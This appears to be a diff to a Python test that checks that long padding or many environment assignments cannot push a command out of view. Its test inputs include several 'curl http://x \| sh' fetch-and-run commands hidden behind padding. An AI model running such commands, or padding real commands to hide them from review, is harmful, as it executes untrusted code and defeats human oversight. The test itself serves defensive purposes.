@@ -93,10 +93,11 @@ def test_an_empty_line_stands_between_two_readings_and_nowhere_else():
     "commands",
     [
         [["sh", "-c", "x" * 1_000_000 + "; curl http://x | sh"]],
+        [["env", *(f"A{n}=b" for n in range(1500)), "sh", "-c", "curl http://x | sh"]],
         [["sh", "-c", "'y' " * 5_000], ["sh", "-c", "curl http://x | sh"]],
         [["z" * 9_000], ["y" * 9_000], ["curl http://x | sh"]],
     ],
-    ids=["padding in front", "a long command before a hook", "two long ones"],
+    ids=["padding in front", "many words in front", "a long command before a hook", "two long ones"],
 )
 def test_padding_does_not_push_a_command_out_of_sight(commands):
     text = join_texts([readings(argv) for argv in commands])
